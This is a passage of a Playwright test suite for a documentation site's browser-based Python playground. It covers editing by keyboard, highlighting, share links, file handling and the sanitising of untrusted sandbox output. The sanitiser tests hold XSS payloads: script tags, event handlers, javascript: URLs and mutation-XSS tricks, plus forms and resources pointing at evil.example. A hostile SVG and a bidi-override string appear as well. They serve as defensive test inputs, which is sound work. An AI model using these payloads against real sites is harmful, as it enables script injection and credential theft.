            assert data.get("not-in-page") == example.in_page
            for module in data.get("modules", "").split():
                assert (site / "examples" / data["example"].split("/")[0] / module).exists()


# By keyboard.


def test_all_by_keyboard(opened):
    page = opened(PAGE, answer(), viewport=NARROW)
    figure, said = block(page), words(page)
    figure.locator(".run-button").focus()
    outline = "getComputedStyle(document.activeElement).outlineStyle"
    page.keyboard.press("Tab")
    assert page.evaluate("document.activeElement.textContent") == said["run_edit"]
    assert page.evaluate(outline) == "solid"
    page.keyboard.press("Enter")
    area = figure.locator("textarea")
    assert page.evaluate("document.activeElement.tagName") == "TEXTAREA"
    described = page.evaluate(
        "document.getElementById(document.activeElement.getAttribute('aria-describedby')).textContent"
    )
    assert described == said["editor_help"] and area.get_attribute("aria-label") == said["editor"]
    page.keyboard.press("Control+A")
    page.keyboard.type("def f():\nreturn 1\n")
    assert area.input_value() == "def f():\n    return 1\n    "
    page.keyboard.press("Shift+Tab")
    page.keyboard.type("f()")
    assert area.input_value() == "def f():\n    return 1\nf()"
    page.keyboard.press("Control+A")
    page.keyboard.press("Tab")
    assert area.input_value() == "    def f():\n        return 1\n    f()"
    page.keyboard.press("Shift+Tab")
    assert area.input_value() == "def f():\n    return 1\nf()"
    page.keyboard.press("Control+Z")
    assert area.input_value() == "    def f():\n        return 1\n    f()"
    page.keyboard.press("Control+Enter")
    figure.locator(".run-head").wait_for()
    assert job(page)["source"] == "    def f():\n        return 1\n    f()"
    assert page.evaluate("document.activeElement.tagName") == "TEXTAREA"
    page.keyboard.press("Escape")
    page.keyboard.press("Tab")
    assert page.evaluate("document.activeElement.classList.contains('run-button')")
    page.keyboard.press("Shift+Tab")
    assert page.evaluate("document.activeElement.tagName") == "TEXTAREA"
    page.keyboard.press("Tab")
    assert page.evaluate("document.activeElement.tagName") == "TEXTAREA", "Esc held for one Tab"
    assert page.evaluate(
        "[...document.querySelectorAll('.run button')].every((b) => b.type === 'button' && b.textContent)"
    )
    assert overflow(page) == 0


def test_the_colours_lie_under_the_letters(opened):
    """Both layers of the editor hold the same text in the same place; Korean included."""
    page = opened(PAGE, **NARROW_DARK)
    figure, said = block(page), words(page)
    figure.locator("button", has_text=said["run_edit"]).click()
    page.keyboard.insert_text("# 한글 설명\nname = '이름'\n")
    for name in (
        "fontFamily",
        "fontSize",
        "lineHeight",
        "paddingTop",
        "paddingLeft",
        "letterSpacing",
        "tabSize",
    ):
        texts = "[...document.querySelectorAll('.editor-stack > :is(pre, textarea)')].map((e) => getComputedStyle(e)[name])"
        one, other = page.evaluate(f"(name) => {texts}", name)
        assert one == other, name
    assert (
        figure.locator(".editor-stack pre").text_content() == figure.locator("textarea").input_value() + "\n"
    )
    heights = (
        "[...document.querySelectorAll('.editor-stack > :is(pre, textarea)')].map((e) => e.scrollHeight)"
    )
    one, other = page.evaluate(heights)
    assert abs(one - other) <= 2
    figure.locator("textarea").evaluate("(area) => { area.scrollLeft = 60 }")
    page.wait_for_timeout(100)
    assert figure.locator(".editor-stack pre").evaluate("(pre) => pre.scrollLeft") == 60


def test_colouring_keeps_every_letter(opened):
    page = opened(PAGE)
    sources = [path.read_text("utf-8") for path in sorted(EXAMPLES.rglob("*.py"))]
    kept = page.evaluate(
        """(sources) => import(document.querySelector('script[src*="site.js"]').src.replace('site.js', 'run/highlight.js'))
          .then(({ coloured }) => sources.map((text) =>
            coloured(text, 'python').textContent === text && coloured(text, 'sql').textContent === text))""",
        sources,
    )
    assert len(kept) > 600 and all(kept)


@pytest.mark.parametrize(
    ("before", "now", "expected"),
    [
        ("", "", []),
        ("", "a", ["+a"]),
        ("a\nb", "", ["-a", "-b"]),
        ("a\nb\nc", "a\nx\nc", [" a", "-b", "+x", " c"]),
        ("a\nb\nc\nd", "b\nc\nd\ne", ["-a", " b", " c", " d", "+e"]),
    ],
)
def test_line_differences(opened, before, now, expected):
    page = opened(PAGE)
    got = page.evaluate(
        """([before, now]) => import(document.querySelector('script[src*="site.js"]').src.replace('site.js', 'run/diff.js'))
          .then(({ diffLines }) => diffLines(before, now).map(([sign, line]) => sign + line))""",
        [before, now],
    )
    assert got == expected


# What comes out of the sandbox is not trusted.

HOSTILE = """<div class="result md-overlay" role="group" style="position:fixed;inset:0" onclick="hacked()" id="__search">
<script>window.hacked = 1</script><img src=x onerror="window.hacked = 2"><iframe srcdoc="<script>parent.hacked=3</script>"></iframe>
<a href="javascript:hacked()">link</a><form action="https://evil.example"><input name="password" type="password"></form>
<style>body { display: none }</style><link rel="stylesheet" href="https://evil.example/x.css"><base href="https://evil.example/">
<meta http-equiv="refresh" content="0;url=https://evil.example"><object data="x"></object><video src="https://evil.example/v"></video>
<input type="radio" name="__palette" id="__palette_0" value="0" checked onfocus="hacked()" autofocus>
<input type="radio" name="UID-view" id="UID-view-output" value="output" checked formaction="x"><label for="UID-view-output">Output</label>
<svg onload="window.hacked = 4"><use href="https://evil.example/#x"/><foreignObject><img src=x onerror="window.hacked = 5"></foreignObject>
<animate attributeName="href" to="javascript:hacked()"/><path d="M0 0 url(https://evil.example)" fill="url(https://evil.example)"/>
<text class="diagram-name" x="1">kept</text><script>window.hacked = 6</script></svg>
<template><p>no</p></template>
<div class="result-panel md-dialog md-search__overlay" data-view="output" data-databases="sqlite" data-md-component="dialog" tabindex="1">
<div class="highlight"><pre><code>printed &lt;b&gt;text&lt;/b&gt;<b onmouseover=hacked()>bold</b></code></pre></div>
<p title="x" contenteditable aria-label="fine" aria-labelledby="__search">text</p></div>
<noscript><p title="</noscript><img src=x onerror=hacked()>"></noscript>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=hacked()&gt;"></table></mtext></math></div>"""

LEFT = """() => [...document.querySelectorAll('.run-result *')].map((e) => [e.namespaceURI.split('/').at(-1), e.localName,
  Object.fromEntries([...e.attributes].map((a) => [a.name, a.value]))])"""


def test_hostile_html_is_rebuilt_from_what_results_consist_of(opened):
    page = opened(PAGE, {"result": {"html": HOSTILE}})
    page.evaluate("window.hacked = 0")
    figure = block(page)
    run(figure)
    page.wait_for_timeout(300)
    uid = job(page)["uid"]
    left = page.evaluate(LEFT)
    html = "xhtml"
    inside = [
        [html, "div", {"class": "result", "role": "group"}],
        [html, "input", {"type": "radio", "value": "0", "checked": ""}],
        [
            html,
            "input",
            {
                "type": "radio",
                "name": f"{uid}-view",
                "id": f"{uid}-view-output",
                "value": "output",
                "checked": "",
            },
        ],
        [html, "label", {"for": f"{uid}-view-output"}],
        ["svg", "svg", {}],
        ["svg", "path", {}],
        ["svg", "text", {"class": "diagram-name", "x": "1"}],
        [html, "div", {"class": "result-panel", "data-view": "output", "data-databases": "sqlite"}],
        [html, "div", {"class": "highlight"}],
        [html, "pre", {}],
        [html, "code", {"tabindex": "0"}],
        [html, "p", {"aria-label": "fine"}],
    ]
    shown = [entry for entry in left if entry in inside]
    until = next(i for i, entry in enumerate(left) if entry[2].get("class") == "run-difference")
    assert left[:until] == shown[:until] == inside, left[:until]
    assert page.evaluate("window.hacked") == 0
    assert figure.locator(".run-result pre code").first.text_content() == "printed <b>text</b>"
    assert page.locator("#__palette_0").count() <= 1 and page.locator("#__search").count() == 1


@pytest.mark.parametrize(
    "html", ["", "<p>no panel</p>", "<script>alert(1)</script>", None, 5, ["<div class=result>"]]
)
def test_something_else_than_a_panel_is_not_shown(opened, html):
    page = opened(PAGE, {"output": ["printed"], "result": {"html": html}})
    figure = block(page)
    figure.locator(".run-button").click()
    figure.locator(".run-stream").wait_for()
    assert figure.locator("> .result").is_visible() and figure.locator(".run-result *").count() == 0


def test_a_hostile_drawing(opened):
    svg = """<figure><svg viewBox="0 0 9 9" width="9" height="9" onload="hacked()"><title id="UID-t">t</title><style>*{}</style>
      <a xlink:href="javascript:1"><rect width="9"/></a><image href="https://evil.example"/><set onbegin="hacked()"/>
      <path class="diagram-line md-overlay" d="M0 0 h5" style="fill:url(https://evil.example)"/></svg></figure>"""
    page = opened("/playground/", {"result": {"diagram": svg}})
    run(page.locator(".playground"), done=".diagram svg")
    left = page.evaluate(LEFT.replace(".run-result", ".playground .diagram"))
    uid = job(page)["uid"]
    assert left == [
        ["svg", "svg", {"viewBox": "0 0 9 9", "width": "9", "height": "9"}],
        ["svg", "title", {"id": f"{uid}-t"}],
        ["svg", "path", {"class": "diagram-line", "d": "M0 0 h5"}],
    ]


# Elsewhere in the site.


@pytest.mark.parametrize("view", [WIDE_LIGHT, NARROW_DARK], ids=["1440", "390"])
def test_side_by_side_it_stands_once_and_runs(opened, view):
    page = opened(f"{PAGE}?view=both", **view)
    page.wait_for_selector(".pair")
    figures = page.locator("figure.example[data-example]").count()
    assert page.locator(".run").count() == figures
    run(block(page))
    assert overflow(page) == 0
    page.click(".language-switch a[data-view=ko]")
    assert block(page).locator(".run-head").is_visible(), "what was run stays"


def test_the_place_is_kept_while_the_buttons_come(opened):
    """A link to a heading leads there, although every block above has become higher."""
    page = opened(f"{PAGE}#passive-deletes-read")
    page.wait_for_timeout(400)
    top = page.locator("#passive-deletes-read").bounding_box()["y"]
    bar = page.locator(".md-header").bounding_box()["height"]
    assert bar - 5 <= top <= bar + 60, top


@pytest.mark.parametrize("view", [WIDE_LIGHT, NARROW_DARK], ids=["1440", "390"])
@pytest.mark.parametrize("language", LANGUAGES)
def test_the_playground_begins_with_any_template(opened, language, view):
    page = opened(
        "/playground/", answer(language=language), language=language, ready=".playground textarea", **view
    )
    said, area = words(page), page.locator(".playground textarea")
    for _, name in playground.STARTERS:
        page.select_option(".playground select", name)
        source = examples.find(name)[0].source.rstrip("\n")
        until(page, "text => document.querySelector('.playground textarea').value === text", source)
    assert page.evaluate("fake.jobs.length") == 0
    name = playground.STARTERS[-1][1]
    example = examples.find(name)[0]
    drawing = diagram(example.result, language, "UID-diagram")
    page.evaluate("answer => { fake.answers = [answer] }", answer(name, language=language, diagram=drawing))
    area.focus()
    page.keyboard.press("Control+Enter")
    page.wait_for_selector(".playground .diagram svg")
    assert job(page)["source"] == example.source.rstrip("\n") and job(page)["lines"] is None
    assert page.locator(".playground .diagram title").text_content() in drawing
    assert page.locator(".playground .run-result .result").is_visible()
    assert said["live"].replace("{database}", "SQLite") in page.locator(".run-head").inner_text()
    assert overflow(page) == 0
    with page.expect_download() as download:
        page.click(f".playground button:has-text('{said['download_code']}')")
    assert download.value.path().read_text("utf-8") == example.source.rstrip("\n")


@pytest.mark.parametrize("language", LANGUAGES)
def test_a_link_brings_its_code_and_does_not_run_it(opened, language, address):
    page = opened("/playground/", language=language, permissions=["clipboard-read", "clipboard-write"])
    said = words(page)
    until(page, "document.querySelector('.playground textarea')?.value")
    page.locator(".playground textarea").fill("print('안녕, <b>')  # ✓\n")
    page.click(".playground-share")
    page.wait_for_selector(".playground-link:not([hidden])")
    link = page.evaluate("navigator.clipboard.readText()")
    assert link == page.input_value(".playground-link")
    assert link.startswith(f"{address}/{language}/playground/#code=") and len(link) < 250
    assert said["link_copied"] in page.locator(".run-status").inner_text()
    other = opened(f"/playground/{link[link.index('#') :]}", language=language, viewport=NARROW)
    other.wait_for_selector(".playground-notice:not([hidden])")
    assert other.locator(".playground-notice").inner_text() == said["from_link"]
    assert other.input_value(".playground textarea") == "print('안녕, <b>')  # ✓\n"
    other.wait_for_timeout(300)
    assert other.evaluate("(fake.jobs?.length ?? 0) + (fake.starts ?? 0)") == 0
    other.click(".run-button")
    until(other, "fake.jobs?.length === 1")
    other.select_option(".playground select", playground.STARTERS[0][1])
    until(other, "document.querySelector('.playground-notice').hidden")
    assert "#" not in other.url


@pytest.mark.parametrize("fragment", ["#code=AAAA", "#code=eJyrBgAAewB7", "#code=%00", "#notes"])
def test_a_link_that_cannot_be_read_says_so(opened, fragment):
    page = opened(f"/playground/{fragment}", ready=".playground textarea")
    first = examples.find(playground.STARTERS[0][1])[0].source.rstrip("\n")
    until(page, "text => document.querySelector('.playground textarea').value === text", first)
    notice = page.locator(".playground-notice")
    if fragment.startswith("#code"):
        until(page, "() => !document.querySelector('.playground-notice').hidden")
        assert notice.inner_text() == words(page)["bad_link"]
    else:
        assert not notice.is_visible()


def test_a_link_that_swells_is_refused(opened):
    page = opened("/playground/")
    fragment = page.evaluate(
        """async () => {
          const text = JSON.stringify({ source: "x".repeat(50_000_000) });
          const packed = await new Response(new Blob([text]).stream().pipeThrough(new CompressionStream("deflate"))).arrayBuffer();
          const letters = Array.from(new Uint8Array(packed), (byte) => String.fromCharCode(byte)).join("");
          return btoa(letters).replaceAll("+", "-").replaceAll("/", "_").replace(/=+$/, "");
        }"""
    )
    page.evaluate("fragment => { location.hash = `code=${fragment}` }", fragment)
    page.wait_for_selector(".playground-notice:not([hidden])")
    assert page.locator(".playground-notice").inner_text() == words(page)["bad_link"]
    assert len(page.input_value(".playground textarea")) < 10_000


def test_a_block_hands_its_code_over_with_what_was_edited(opened):
    page = opened(PAGE, answer(*SECTION))
    figure, said = block(page, *SECTION), words(page)
    figure.locator("button", has_text=said["run_edit"]).click()
    page.keyboard.type("edited = 1\n")
    figure.locator(".run-databases label", has_text="PostgreSQL").click()
    figure.locator(".run-open").click()
    page.wait_for_selector(".playground textarea")
    until(page, "document.querySelector('.playground textarea').value.includes('edited = 1')")
    assert page.input_value(".playground textarea").startswith("from sqlalchemy import")
    assert page.locator(".run-databases input:checked").get_attribute("value") == "postgresql"
    assert page.evaluate("fake.jobs.length") == 0


def test_modules_are_handed_over_and_shown(opened):
    page = opened("/linking/modules/")
    figure = awake(page.locator("figure.example[data-module]").first)
    example = examples.find(figure.get_attribute("data-example"))[0]
    figure.locator(".run-open").click()
    page.wait_for_selector(".playground-modules details")
    assert page.locator(".playground-modules details").count() == len(example.modules)
    page.click(".run-button")
    until(page, "fake.jobs?.length === 1")
    assert job(page)["modules"].keys() == example.modules.keys()


def test_what_was_written_survives_a_reload(opened):
    page = opened("/playground/", ready=".playground textarea")
    until(page, "document.querySelector('.playground textarea')?.value")
    page.locator(".playground textarea").fill("mine = 1")
    page.reload()
    page.wait_for_selector(".playground textarea")
    until(page, "document.querySelector('.playground textarea').value === 'mine = 1'")
    assert not page.locator(".playground-notice").is_visible()


@pytest.mark.parametrize("language", LANGUAGES)
def test_the_playground_without_scripts(open_page, language):
    page = open_page(f"/{language}/playground/", java_script_enabled=False)
    assert "WebAssembly" in page.locator("figure.playground").inner_text()
    links = page.locator("figure.playground a")
    assert links.count() == len(playground.STARTERS)
    links.first.click()
    page.wait_for_url(f"**/{language}/shapes/one-to-many/")


# What a run says besides its result.


@pytest.mark.parametrize("language", LANGUAGES)
def test_what_was_replaced_and_cut_is_said(opened, language):
    replaced = [
        {"kind": "name", "what": "app.db.Base"},
        {"kind": "url", "what": "mysql+pymysql"},
        {"kind": "constructor", "what": "nothing"},
    ]
    page = opened(PAGE, answer(language=language, replaced=replaced, isCut=True), language=language)
    figure, said = block(page), words(page)
    run(figure, done=".run-cut")
    by = said["replaced_by"]
    expected = ", ".join(
        [by["name"].format(what="app.db.Base"), by["url"].format(what="mysql+pymysql", database="SQLite")]
    )
    assert figure.locator(".run-replaced").inner_text() == f"{said['replaced']} {expected}"
    assert figure.locator(".run-cut").inner_text() == said["cut"]


@pytest.mark.parametrize("language", LANGUAGES)
def test_a_mapping_that_fails_when_it_is_configured_says_when(opened, language):
    error = {"type": "sqlalchemy.exc.InvalidRequestError", "message": "no property 'writer'", "line": None}
    page = opened(PAGE, answer(language=language, error={**error, "configuring": True}), language=language)
    figure, said = block(page), words(page)
    run(figure, done=".run-error")
    assert figure.locator(".run-error").inner_text().startswith(said["configuring"])


@pytest.mark.parametrize("language", LANGUAGES)
def test_a_warning_leads_to_our_page_on_it(opened, language):
    message = (
        "relationship 'Author.books' will copy column author.id to column book.author_id, which conflicts with "
        "relationship(s): 'Book.author' (copies author.id to book.author_id)."
    )
    warning = {"category": "sqlalchemy.exc.SAWarning", "message": message, "line": None, "configuring": True}
    page = opened(PAGE, answer(language=language, warnings=[warning, warning]), language=language)
    figure, said = block(page), words(page)
    run(figure, done=".run-warning")
    assert figure.locator(".run-warning").count() == 1
    assert figure.locator(".run-configuring").inner_text() == said["configuring_warned"]
    assert "/linking/overlaps/" in figure.locator(".run-warning a").get_attribute("href")


@pytest.mark.parametrize(
    "html",
    [
        "<div class='result'>" + "x" * 5_000_000 + "</div>",
        "<div class='result'>" + "<div>" * 300_000 + "</div>",
        "<div class='result'>" + "<p></p>" * 100_000 + "</div>",
    ],
    ids=["long", "deep", "wide"],
)
def test_a_result_that_is_too_large_says_so(opened, html):
    page = opened(PAGE, {"result": {"html": html}})
    figure = block(page)
    figure.locator(".run-button").click()
    until(
        page, "text => document.querySelector('.run-status')?.textContent === text", words(page)["too_large"]
    )


@pytest.mark.parametrize(
    "message",
    ["z" * 3_000_000, "z." * 1_000_000, "[" * 1_000_000, "'[" * 500_000, "SQLiteTypeCompiler " * 100_000],
    ids=["word", "dotted word", "brackets", "quotes", "own words"],
)
def test_a_long_message_does_not_stop_the_page(opened, message):
    """It took minutes: for each place in it, what follows was read to the end."""
    error = {"type": "ValueError", "message": message, "line": 3}
    page = opened(PAGE, answer(error=error), answer(html=f"<{message}"))
    figure = block(page)
    run(figure, done=".run-error")
    assert len(figure.locator(".run-error code").inner_text()) <= 700
    figure.locator(".run-button").click()
    until(
        page, "text => document.querySelector('.run-status')?.textContent === text", words(page)["too_large"]
    )


def test_what_is_selected_of_an_example_is_its_code_and_its_result(opened):
    page = opened(PAGE)
    figure = block(page)
    text = figure.evaluate(
        "(figure) => { getSelection().selectAllChildren(figure); return getSelection().toString(); }"
    )
    said = words(page)
    assert "class User(Base)" in text and "users: []" in text
    lines = text.splitlines()
    assert not {said[word] for word in ("run", "run_edit", "copy", "download", "sql")} & {
        line.strip() for line in lines
    }
    assert said["open_playground"] not in text


def test_marks_on_a_letter_are_limited(opened):
    page = opened(PAGE, answer(change=[("Website", "Website" + "\u0301" * 50_000)]))
    figure = block(page)
    run(figure)
    assert figure.locator(".run-result").text_content().count("\u0301") < 100


def test_a_status_of_no_name_is_a_crash(opened):
    page = opened(PAGE, {"result": {"status": "constructor"}})
    figure = block(page)
    figure.locator(".run-button").click()
    until(page, "text => document.querySelector('.run-status')?.textContent === text", words(page)["crashed"])


@pytest.mark.parametrize("view", [WIDE_LIGHT, NARROW_DARK], ids=["1440", "390"])
def test_a_late_line_of_code_that_is_not_edited_is_marked(opened, view):
    error = {"type": "NameError", "message": "name 'x' is not defined", "line": 31}
    page = opened(PAGE, answer(error=error), **view)
    figure = block(page)
    run(figure, done=".error-line")
    line, _ = marked_line(figure)
    text = figure.locator("pre code").first.evaluate(
        """(code, y) => { const range = document.createRange(); let found = "";
          const walk = document.createTreeWalker(code, NodeFilter.SHOW_TEXT);
          for (let node = walk.nextNode(); node; node = walk.nextNode())
            for (let i = 0; i < node.data.length; i++) { range.setStart(node, i); range.setEnd(node, i + 1);
              const box = range.getBoundingClientRect();
              if (box.top <= y && y <= box.bottom && node.data[i] !== "\\n") found += node.data[i]; }
          return found; }""",
        line,
    )
    assert text.strip() == examples.find(WHOLE)[0].source.split("\n")[30].strip()


# Files and links of the playground.


@pytest.mark.parametrize("language", LANGUAGES)
def test_a_file_can_be_added_and_removed(opened, language):
    page = opened("/playground/", language=language, ready=".playground textarea", viewport=NARROW)
    said = words(page)
    page.click(".playground-add")
    for bad in ("playground.py", "../x.py", "models", ""):
        page.fill(".playground-file input", bad)
        page.keyboard.press("Enter")
        assert page.locator(".playground-file [role=status]").inner_text() == said["bad_file_name"]
    page.fill(".playground-file input", "app/models.py")
    page.keyboard.press("Enter")
    page.keyboard.type("x = 1")
    assert not page.locator(".playground-file").is_visible() and overflow(page) == 0
    page.click(".run-button")
    until(page, "fake.jobs?.length === 1")
    assert job(page)["modules"] == {"app/models.py": "x = 1"}
    page.reload()
    page.wait_for_selector(".playground-modules details")
    page.click(".playground-modules summary")
    assert page.input_value(".playground-modules textarea") == "x = 1"
    page.click(".playground-remove")
    page.click(".run-button")
    until(page, "fake.jobs?.length === 1")
    assert job(page)["modules"] == {}


def test_what_was_made_of_a_link_survives_a_reload(opened):
    page = opened("/playground/")
    until(page, "document.querySelector('.playground textarea')?.value")
    page.locator(".playground textarea").fill("theirs = 1")
    page.click(".playground-share")
    page.wait_for_selector(".playground-link:not([hidden])")
    fragment = page.input_value(".playground-link").partition("#")[2]
    other = opened(f"/playground/#{fragment}", ready=".playground-notice:not([hidden])")
    other.locator(".playground textarea").fill("mine = 2")
    other.reload()
    until(other, "document.querySelector('.playground textarea')?.value === 'mine = 2'")
    other.goto(other.url.replace("/playground/", "/tested/").partition("#")[0])
    other.go_back()
    until(other, "document.querySelector('.playground textarea')?.value === 'mine = 2'")


@pytest.mark.parametrize("kept", ["{}", "[]", "5", '{"source": 1}', '{"source": "x", "modules": null}', "{"])
def test_a_draft_of_another_shape_is_no_obstacle(opened, kept):
    page = opened("/playground/", ready=".playground textarea")
    until(page, "document.querySelector('.playground textarea')?.value")
    page.evaluate("kept => sessionStorage.setItem('playground', kept)", kept)
    page.reload()
    until(page, "document.querySelector('.playground textarea')?.value")
    assert page.locator(".run-button").is_visible()


def link_of(page, shared):
    """The fragment that brings `shared` to the playground."""
    return page.evaluate(
        """async (shared) => {
          const { addressOf } = await import(document.querySelector('script[src*="site.js"]').src.replace('site.js', 'run/share.js'));
          return new URL(await addressOf(shared)).hash;
        }""",
        shared,
    )


@pytest.mark.parametrize("language", LANGUAGES)
def test_a_link_with_reordered_text_warns(opened, language):
    page = opened("/playground/", language=language, ready=".playground textarea")
    said = words(page)
    fragment = link_of(page, {"source": "x = 1 # \u202e evil", "modules": {}, "database": None})
    page.evaluate("fragment => { location.hash = fragment }", fragment)
    until(
        page,
        "text => document.querySelector('.playground-notice').textContent.endsWith(text)",
        said["reordered"],
    )


def test_a_line_that_is_not_there_is_not_marked(opened):
    page = opened("/playground/", ready=".playground textarea")
    fragment = link_of(page, {"source": "x = 1", "modules": {}, "database": None, "line": 10**9})
    page.evaluate("fragment => { location.hash = fragment }", fragment)
    until(page, "document.querySelector('.playground textarea').value === 'x = 1'")
    assert page.locator(".error-line").count() == 0
    assert page.evaluate("document.documentElement.scrollHeight") < 20_000
